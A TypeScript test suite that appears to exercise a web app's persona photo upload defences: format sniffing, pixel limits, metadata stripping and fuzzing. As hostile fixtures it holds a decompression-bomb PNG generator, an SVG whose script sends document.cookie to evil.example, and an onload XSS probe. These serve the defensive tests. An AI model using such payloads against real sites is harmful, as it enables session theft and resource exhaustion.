/**
 * The persona photo upload as an attacker would use it: the bytes decide the format (JPEG, PNG or WebP; a label
 * decides nothing), a picture over the pixel limit is refused from its header before any decoding, and whatever
 * is stored is a 128 px JPEG without metadata.
 */
import { resourceUsage } from 'node:process';
import { crc32, deflateSync } from 'node:zlib';
import fc from 'fast-check';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readImageHeader } from '../../server/followups/personas/image-header.ts';
import { MAX_PHOTO_PIXELS, MAX_PHOTO_SIDE, photoRefusal, resizePersonaPhoto } from '../../server/followups/personas/photo.ts';
import { HttpError } from '../../server/http/errors.ts';
import { adminApi, PERSONA } from '../followups/support.ts';
import { startInstalledApp, type AppAndSandbox } from '../support/sandbox.ts';

let env: AppAndSandbox;
const api = adminApi(() => env);
const shop = () => env.sandbox.shop.myshopifyDomain;

beforeAll(async () => {
  env = await startInstalledApp();
  // No SMTP here: the persona is stored, only its verification mail cannot go out (409).
  expect([200, 409]).toContain((await api('PUT', '/followups/persona', PERSONA)).status);
});
afterAll(() => env?.close());

const solid = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#c08040' } });
/** A picture with detail in it (a solid colour compresses to almost nothing, and cuts off harmlessly). */
const noisy = (width: number, height: number) => sharp({ create: { width, height, channels: 3, background: '#000000', noise: { type: 'gaussian', mean: 128, sigma: 40 } } });

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A decompression bomb: a few kilobytes of PNG declaring width × height grey pixels, the start of them zeros. */
function bombPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 0, 0, 0, 0], 8); // 8-bit greyscale, deflate, adaptive filtering, no interlace
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.alloc(4_000_000), { level: 9 })), pngChunk('IEND', Buffer.alloc(0))]);
}

const SVG_WITH_SCRIPT = Buffer.from(
  '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="200" height="200" fill="red"/></svg>',
);
/** The start of an iPhone photo: an ISO-BMFF box naming the HEIC brand, then (here) nothing decodable. */
const HEIC_START = Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(64)]);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');

const upload = (bytes: Buffer, label: string | null = 'data:image/png;base64,') => api('PUT', '/followups/persona/photo', { image: `${label ?? ''}${bytes.toString('base64')}` });
const storedPhoto = async () => (await env.app.storage.followups.personaPhoto(shop())) ?? null;

describe('PUT /api/followups/persona/photo', () => {
  it('refuses a decompression bomb from its header, quickly and without decoding it', async () => {
    const bomb = bombPng(30_000, 30_000);
    expect(bomb.length).toBeLessThan(16_000);
    const before = await storedPhoto();
    const peakBefore = resourceUsage().maxRSS; // kilobytes
    const started = performance.now();
    const response = await upload(bomb);
    const elapsed = performance.now() - started;
    expect(response.status).toBe(422);
    expect(response.body).toMatchObject({ error: 'photo_too_large', message: expect.stringContaining('30,000 × 30,000 pixels') });
    // Decoding 900 million grey pixels needs 900 MB at least and seconds; refusing from the header needs
    // neither. Both bounds sit far from either outcome.
    expect(elapsed).toBeLessThan(2_000);
    expect(resourceUsage().maxRSS - peakBefore).toBeLessThan(300 * 1024);
    expect(await storedPhoto()).toEqual(before);
  });

  it('refuses a real 40-megapixel picture', async () => {
    const response = await upload(await solid(8_000, 5_000).png().toBuffer());
    expect(response.status).toBe(422);
    expect(response.body.error).toBe('photo_too_large');
  });

  it('refuses SVG (with a script inside), GIF, HEIC, TIFF, AVIF and PDF, naming what the file is', async () => {
    const cases: [Buffer, string, RegExp][] = [
      [SVG_WITH_SCRIPT, 'data:image/svg+xml;base64,', /an SVG drawing/],
      [SVG_WITH_SCRIPT, 'data:image/png;base64,', /an SVG drawing/],
      [await solid(40, 40).gif().toBuffer(), 'data:image/gif;base64,', /a GIF image/],
      [HEIC_START, 'data:image/jpeg;base64,', /a HEIC photo/],
      [await solid(40, 40).tiff().toBuffer(), 'data:image/tiff;base64,', /a TIFF image/],
      [await solid(40, 40).avif().toBuffer(), 'data:image/avif;base64,', /an AVIF image/],
      [PDF, 'data:application/pdf;base64,', /a PDF document/],
    ];
    const before = await storedPhoto();
    for (const [bytes, label, kind] of cases) {
      const response = await upload(bytes, label);
      expect({ label, status: response.status, error: response.body.error }).toEqual({ label, status: 422, error: 'photo_format' });
      expect(response.body.message).toMatch(kind);
      expect(response.body.message).toContain('JPEG, PNG or WebP');
    }
    expect(await storedPhoto()).toEqual(before);
  });

  it('refuses random bytes and truncated pictures with a 422, never a 500', async () => {
    const random = fc.sample(fc.uint8Array({ minLength: 1, maxLength: 4_096 }), { seed: 1209, numRuns: 5 });
    for (const bytes of random) expect((await upload(Buffer.from(bytes))).status).toBe(422);
    const jpeg = await noisy(300, 200).jpeg().toBuffer();
    const png = await noisy(300, 200).png().toBuffer();
    const webp = await noisy(300, 200).webp().toBuffer();
    for (const whole of [jpeg, png, webp]) {
      for (const cut of [16, 200, Math.floor(whole.length / 2)]) {
        const response = await upload(whole.subarray(0, cut));
        expect({ cut, status: response.status }).toEqual({ cut, status: 422 });
        expect(response.body.error).toMatch(/^photo_(unreadable|format)$/);
      }
    }
  });

  it('takes a PNG labelled as JPEG and JPEG bytes labelled as SVG: the bytes decide', async () => {
    const png = await solid(600, 400).png().toBuffer();
    expect((await upload(png, 'data:image/jpeg;base64,')).status).toBe(200);
    const jpeg = await solid(300, 500).jpeg().toBuffer();
    expect((await upload(jpeg, 'data:image/svg+xml;base64,')).status).toBe(200);
    expect((await upload(await solid(64, 64).webp().toBuffer(), null)).status).toBe(200);
  });

  it('stores a 128 px JPEG without the camera\'s metadata', async () => {
    const withExif = await noisy(800, 600)
      .jpeg()
      .withExif({ IFD0: { ImageDescription: 'Home, 12 Secret Street', Make: 'TactoCam' } })
      .toBuffer();
    expect((await sharp(withExif).metadata()).exif).toBeDefined();
    const response = await upload(withExif, 'data:image/jpeg;base64,');
    expect(response.status).toBe(200);
    const stored = (await storedPhoto())!;
    const metadata = await sharp(stored).metadata();
    expect(metadata).toMatchObject({ format: 'jpeg', width: 128, height: 128 });
    expect(metadata.exif).toBeUndefined();
    expect(stored.includes('Secret Street')).toBe(false);
    expect(response.body.photo).toBe(`data:image/jpeg;base64,${stored.toString('base64')}`);
  });

  it('keeps the body bounded and refuses what is not base64', async () => {
    expect((await api('PUT', '/followups/persona/photo', { image: 'A'.repeat(8_500_000) })).status).toBe(413);
    const garbled = await api('PUT', '/followups/persona/photo', { image: 'data:image/png;base64,<svg onload=alert(1)>' });
    expect(garbled.status).toBe(400);
    expect(garbled.body.error).toBe('invalid_request');
  });
});

describe('reading the header', () => {
  it('finds the format and size of JPEG, PNG and WebP (lossy, lossless, extended) as libvips does', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 1, max: 700 }), fc.integer({ min: 1, max: 700 }), fc.constantFrom('jpeg', 'png', 'webp', 'webp-lossless', 'webp-exif', 'jpeg-progressive'), async (width, height, kind) => {
        const image = solid(width, height);
        const bytes = await {
          jpeg: () => image.jpeg().toBuffer(),
          'jpeg-progressive': () => image.jpeg({ progressive: true }).withExif({ IFD0: { Make: 'x' } }).toBuffer(),
          png: () => image.png().toBuffer(),
          webp: () => image.webp().toBuffer(),
          'webp-lossless': () => image.webp({ lossless: true }).toBuffer(),
          'webp-exif': () => image.webp().withExif({ IFD0: { Make: 'x' } }).toBuffer(),
        }[kind]();
        const metadata = await sharp(bytes).metadata();
        expect(readImageHeader(bytes)).toEqual({ format: metadata.format, width: metadata.width, height: metadata.height });
      }),
      { seed: 4242, numRuns: 40 },
    );
  });

  it('never throws on any bytes, with or without a magic number in front', () => {
    const magic = fc.constantFrom([0xff, 0xd8, 0xff], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], [...Buffer.from('RIFF\0\0\0\0WEBPVP8X')], [...Buffer.from('RIFF\0\0\0\0WEBPVP8L')], []);
    fc.assert(
      fc.property(magic, fc.uint8Array({ maxLength: 256 }), (prefix, tail) => {
        const header = readImageHeader(Buffer.concat([Buffer.from(prefix), tail]));
        if (header.format !== null && header.width !== null) expect(header.width * header.height).toBeGreaterThan(0);
      }),
      { seed: 77, numRuns: 2_000 },
    );
  });

  it('takes 24 megapixels and 10,000 px a side, and refuses one pixel more', () => {
    const at = (width: number, height: number) => photoRefusal({ format: 'png', width, height })?.code ?? null;
    expect(MAX_PHOTO_PIXELS).toBe(24_000_000);
    expect(MAX_PHOTO_SIDE).toBe(10_000);
    expect(at(6_000, 4_000)).toBeNull();
    expect(at(6_001, 4_000)).toBe('photo_too_large');
    expect(at(10_000, 2_400)).toBeNull();
    expect(at(10_001, 1)).toBe('photo_too_large');
    expect(at(1, 10_001)).toBe('photo_too_large');
  });

  it('turns any bytes into a 128 px JPEG or a 422, never anything else', async () => {
    const png = await noisy(64, 48).png().toBuffer();
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: png.length - 1 }), fc.integer({ min: 0, max: 255 }), async (index, value) => {
        const damaged = Buffer.from(png);
        damaged[index] = value;
        try {
          expect(await sharp(await resizePersonaPhoto(damaged)).metadata()).toMatchObject({ format: 'jpeg', width: 128, height: 128 });
        } catch (error) {
          expect(error).toBeInstanceOf(HttpError);
          expect((error as HttpError).status).toBe(422);
        }
      }),
      { seed: 31, numRuns: 60 },
    );
  });
});
